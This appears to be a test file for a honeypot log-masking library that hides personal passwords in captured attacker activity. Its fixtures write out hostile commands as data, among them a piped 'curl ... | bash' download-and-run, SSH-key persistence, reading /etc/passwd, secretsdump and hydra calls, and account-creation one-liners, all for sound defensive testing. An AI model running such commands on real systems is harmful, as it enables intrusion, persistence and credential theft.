import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cowrieEvents } from '../../src/ingest/cowrie-events.ts';
import {
  mask,
  masked,
  maskedNotice,
  maskedSteps,
  maskedValue,
  maskText,
  passwordsOf,
} from '../../src/lib/masking.ts';
import { looksPersonal } from '../../src/lib/personal-password.ts';
import { makeAlert, makeEvent, makeNotice } from '../support/store/contract/records.ts';

const personal = 'Gartenzwerg#77';

describe('a password', () => {
  it('looks like a person’s unless programs try it everywhere', () => {
    for (const password of [
      personal,
      'Sommer2026!',
      'correct horse battery',
      'Kx9#mP2q',
      'Мой-пароль-7',
      'jdoe2024',
    ])
      assert.equal(looksPersonal(password), true, password);
    for (const password of [
      ...[
        '',
        '123456',
        'admin',
        'Admin123',
        'P@ssw0rd',
        'Passw0rd!2024',
        'welcome1',
        'rootroot',
        'changeme123!',
      ],
      ...[
        'qwerty123',
        '1qaz2wsx',
        'zxcvbnm',
        'aaaaaaaa1',
        'xc3511',
        '7ujMko0admin',
        'vizxv',
        'a\u0000bcdefgh',
      ],
      'd41d8cd98f00b204e9800998ecf8427e',
      'x'.repeat(200),
    ])
      assert.equal(looksPersonal(password), false, password);
    assert.equal(looksPersonal('jamshid123', 'jamshid'), false);
    for (const hostile of ['a'.repeat(1e6), 'adminadmin'.repeat(1e5), '\ud800'.repeat(64)])
      assert.equal(typeof looksPersonal(hostile), 'boolean');
  });
});

describe('masking', () => {
  it('finds passwords in fields, forms and JSON, and masks every writing of them', () => {
    const url = encodeURIComponent(personal);
    const event = makeEvent({
      user_id: 'u',
      kind: 'http.request',
      payload: `POST / HTTP/1.1\r\n\r\nuser=a&password=${url}&x=1`,
      extra: { logdata: { PASSWORD: personal, deep: [{ note: `<${personal}>` }] }, [personal]: 1 },
    });
    assert.ok(passwordsOf(event).includes(personal));
    const text = JSON.stringify(masked(event));
    assert.ok(!text.includes(personal) && !text.includes(url));
    assert.match(text, new RegExp(mask));
    assert.ok(JSON.stringify(event).includes(personal), 'the record itself stays as it is');
    const json = makeEvent({ user_id: 'u', payload: `{"user":"a","password": "${personal}"}`, extra: null });
    assert.ok(!masked(json).payload.includes(personal));
  });

  it('leaves what holds none as it is', () => {
    const event = makeEvent({ user_id: 'u' });
    assert.equal(masked(event), event);
    const alert = makeAlert({
      user_id: 'u',
      payload: 'wget http://198.51.100.7/x',
      attack_type: 'CommandExecution',
    });
    assert.equal(masked(alert), alert);
    const exploit = makeEvent({ user_id: 'u', activity: 'login by exploit CVE-2026-24061' });
    assert.equal(masked(exploit), exploit);
  });

  it('masks alerts, steps of sessions and evidence that was cut', () => {
    const evidence = [{ reason: 0, field: 'extra.password', text: personal.slice(0, 9) }];
    const alert = makeAlert({
      user_id: 'u',
      payload: `j.doe:${personal}`,
      reasons: [`tried ${personal}`],
      evidence,
    });
    const text = JSON.stringify(masked(alert));
    assert.ok(!text.includes(personal) && !text.includes(personal.slice(0, 9)));
    const notice = maskedNotice(makeNotice({ payload: `j.doe:${personal}`, reasons: [`tried ${personal}`] }));
    assert.ok(!JSON.stringify(notice).includes(personal));
    const step = { kind: 'login.failed' as const, text: `j.doe:${personal}`, tactic: null };
    const later = { kind: 'command.run' as const, text: `sh -c ${personal}`, tactic: null };
    assert.deepEqual(
      maskedSteps([step, later]).map(({ text }) => text),
      [`j.doe:${mask}`, `sh -c ${mask}`],
    );
    assert.deepEqual(maskedValue('credential', `a:${personal}`), { value: `a:${mask}`, masked: true });
    assert.deepEqual(maskedValue('credential', 'root:root'), { value: 'root:root', masked: false });
    assert.equal(maskText('a$&b', ['a$&b']), mask);
  });
});

describe('a password inside a text', () => {
  const basic = Buffer.from(`j.doe:${personal}`).toString('base64');
  const writings = [
    ...[`echo root:${personal} | chpasswd`, `echo 'root:${personal}'|chpasswd|bash`],
    ...[`chpasswd <<< "root:${personal}"`, `echo -e "${personal}\\n${personal}" | passwd`],
    ...[`echo "old\\n${personal}\\n${personal}"|passwd root`, `echo '${personal}' | sudo -S id`],
    ...[`mysql -uroot -p${personal} -e 'show databases'`, `mysqldump -u root --password=${personal} a`],
    ...[`mysqladmin -u root -p'${personal}' status`, `MYSQL_PWD=${personal} mysql`],
    ...[`sshpass -p ${personal} ssh root@10.0.0.1`, `sshpass -p'${personal}' scp a b`],
    ...[`export SSHPASS="${personal}"; sshpass -e ssh a`, `PGPASSWORD=${personal} psql -h db`],
    ...[`curl -u admin:${personal} http://10.0.0.1/`, `curl --user "a:${personal}" https://x`],
    ...[`wget --user=a --password=${personal} http://x/`, `wget --http-password ${personal} http://x/`],
    ...[`curl ftp://a:${personal}@10.0.0.1/x`, `git clone https://a:${encodeURIComponent(personal)}@x/y`],
    ...[
      `smbclient -U 'a%${personal}' //h/s`,
      `redis-cli -a ${personal} info`,
      `xfreerdp /u:a /p:${personal}`,
    ],
    ...[
      `net user joe ${personal} /add`,
      `net use \\\\h\\c$ /user:joe ${personal}`,
      `plink -pw ${personal} h`,
    ],
    ...[
      `ldapsearch -x -D cn=a -w ${personal}`,
      `useradd -p ${personal} x`,
      `docker login -u a -p ${personal}`,
    ],
    ...[`openssl passwd -1 ${personal}`, `htpasswd -b .htpasswd joe ${personal}`],
    ...[
      `GET / HTTP/1.1\r\nAuthorization: Basic ${basic}\r\n\r\n`,
      `curl -H 'Authorization: Basic ${basic}' x`,
    ],
    ...[`POST /login HTTP/1.1\r\nHost: a\r\n\r\nlog=joe&pwd=${encodeURIComponent(personal)}&x=1`],
    ...[`POST /login HTTP/1.1\r\n\r\nuser%5Bpassword%5D=${encodeURIComponent(personal)}`],
    ...[`{"user":{"name":"joe","password":"${personal}"}}`, `{\\"password\\":\\"${personal}\\"}`],
    ...[
      `<login><password>${personal}</password></login>`,
      `<wsse:Password Type="t">${personal}</wsse:Password>`,
    ],
    `<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>joe</string></value></param><param><value><string>${personal}</string></value></param></params></methodCall>`,
    ...[`USER joe\r\nPASS ${personal}\r\n`, `a1 LOGIN joe ${personal}\r\n`, `AUTH ${personal}\r\n`],
    ...[`a001 login "joe" "${personal}"\r\n`, `LOGIN joe ${personal}`, `. login joe ${personal}`],
    ...[`AUTH PLAIN ${Buffer.from(`\0joe\0${personal}`).toString('base64')}`, `AUTH default ${personal}`],
    ...[`ALTER USER a IDENTIFIED BY '${personal}'`, `CREATE ROLE a WITH PASSWORD '${personal}'`],
    ...[`SET PASSWORD = PASSWORD('${personal}')`, `config set requirepass ${personal}`],
    ...[
      `ConvertTo-SecureString "${personal}" -AsPlainText -Force`,
      `cmdkey /add:h /user:a /pass:${personal}`,
    ],
    ...[`spawn ssh a; expect "pw"; send "${personal}\\r"`, `GET /?username=a&password=${personal} HTTP/1.0`],
  ];
  const forms = [
    personal,
    encodeURIComponent(personal),
    basic,
    Buffer.from(`\0joe\0${personal}`).toString('base64'),
  ];

  it('is found in whatever writing', () => {
    for (const payload of writings) {
      for (const kind of ['command.run', 'http.request', 'payload.received', 'sensor.message'] as const) {
        const shown = masked(makeEvent({ user_id: 'u', kind, payload, extra: { input: payload } }));
        for (const form of forms) assert.ok(!JSON.stringify(shown).includes(form), `${kind} ${payload}`);
      }
      for (const kind of ['command', 'command_form', 'url', 'path', 'user'] as const)
        assert.ok(!maskedValue(kind, payload).value.includes(personal), `${kind} ${payload}`);
      const said = { kind: 'command.run' as const, text: payload, tactic: null };
      assert.ok(!maskedSteps([said])[0]?.text.includes(personal), payload);
    }
  });

  it('is shown where programs try it everywhere', () => {
    for (const payload of writings) {
      const usual = payload
        .replaceAll(personal, 'Admin123')
        .replaceAll(encodeURIComponent(personal), 'Admin123')
        .replaceAll(basic, Buffer.from('joe:Admin123').toString('base64'))
        .replaceAll(forms[3] as string, Buffer.from('\0joe\0Admin123').toString('base64'));
      const event = makeEvent({ user_id: 'u', kind: 'command.run', payload: usual, extra: null });
      assert.equal(masked(event), event, usual);
    }
  });

  it('is not taken for one: words, keys, paths, ports and options', () => {
    const key = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCnxyz2b3 me@host7';
    const harmless = [
      ...['TEST of the token token-4f1d2a9be07c55aa61e2', 'the bearer of-this-message-is-innocent'],
      ...[
        'Auth failed for user joe from 10.0.0.7',
        'auth failed for joe from 10.0.0.7',
        'Pass the salt over',
      ],
      ...['a topic is a secret: choose a long one', 'strangers send appears in the log alone'],
      ...['Failed login attempt yesterday', "login -H 'Content-Type: application/json'"],
      ...[`mkdir ~/.ssh && echo "${key}" >> ~/.ssh/authorized_keys && cat /etc/passwd`],
      ...[`echo ${key} >> .ssh/authorized_keys; echo root:Admin123 | chpasswd`],
      ...["echo 'deb http://a.example stable main' | sudo tee -a /etc/apt/sources.list"],
      ...[
        'date -u +%FT%TZ',
        'curl -u http://example.com/login.php x',
        'secretsdump.py -no-pass corp/joe@host',
      ],
      ...['net user guest /active:yes', 'net user administrator /domain', 'net use * \\\\server\\sales'],
      ...[
        'docker run -p 127.0.0.1:8080:web nginx',
        'docker compose -p warehouse up',
        'mysql -P harbour -h x',
      ],
      ...[
        'unzip -p archive.zip readme.txt',
        'cp a.zip b; start -PassThru',
        'hydra -P /usr/share/lists/rock.txt h',
      ],
      ...[
        'password=$(readlink -f .)',
        'cat /proc/cpuinfo; curl -sL http://a.example/x.sh | bash; passwd -l root',
      ],
    ];
    for (const payload of harmless)
      for (const kind of ['command.run', 'sensor.message'] as const) {
        const event = makeEvent({ user_id: 'u', kind, payload, extra: null });
        assert.equal(masked(event), event, payload);
      }
    const story = [{ kind: 'command.run' as const, text: `echo "${key}`.padEnd(300, 'A'), tactic: null }];
    assert.deepEqual(maskedSteps(story), story);
  });

  it('is not seen in prose that only sounds like one', () => {
    for (const activity of [
      'login by exploit CVE-2026-24061',
      'TEST of the token token-1234567890abcdef12345678, asked for by somebody',
      'send Message_To_Operators now',
    ]) {
      const event = makeEvent({
        user_id: 'u',
        kind: 'sensor.message',
        activity,
        payload: activity,
        extra: null,
      });
      assert.equal(masked(event), event, activity);
    }
  });

  it('is none of the words in which DecoyVerse says what happened', () => {
    for (const { kind, activity } of Object.values(cowrieEvents)) {
      const said = `${activity} CVE-2026-24061`;
      const event = makeEvent({
        user_id: 'u',
        kind,
        activity: said,
        payload: 'uname -a',
        extra: { a: said },
      });
      assert.equal(masked(event), event, said);
    }
  });

  it('is not shown in part where a text was cut', () => {
    for (const payload of writings.slice(0, 20)) {
      const end = payload.indexOf(personal) + 8;
      if (end < 8) continue;
      const text = `${'#'.repeat(300 - end - 1)} ${payload.slice(0, end)}`;
      const shown = maskedSteps([{ kind: 'command.run', text, tactic: null }]);
      assert.ok(!shown[0]?.text.includes(personal.slice(0, 8)), text);
    }
  });

  it('is looked for in linear time, whatever the text is', () => {
    const hostile = [
      'password=',
      'echo "',
      '<string>',
      '://a:',
      'basic ',
      'a1 login ',
      '\na1 LOGIN ',
      'net user ',
      'mysql -p',
      'a:b ',
      '-u a:',
    ];
    for (const part of [...hostile, 'mysql ', '-', '/pass', ' ', '\\"', "'", '%5d'])
      masked(
        makeEvent({
          user_id: 'u',
          kind: 'command.run',
          payload: part.repeat(65_536 / part.length),
          extra: null,
        }),
      );
  });
});
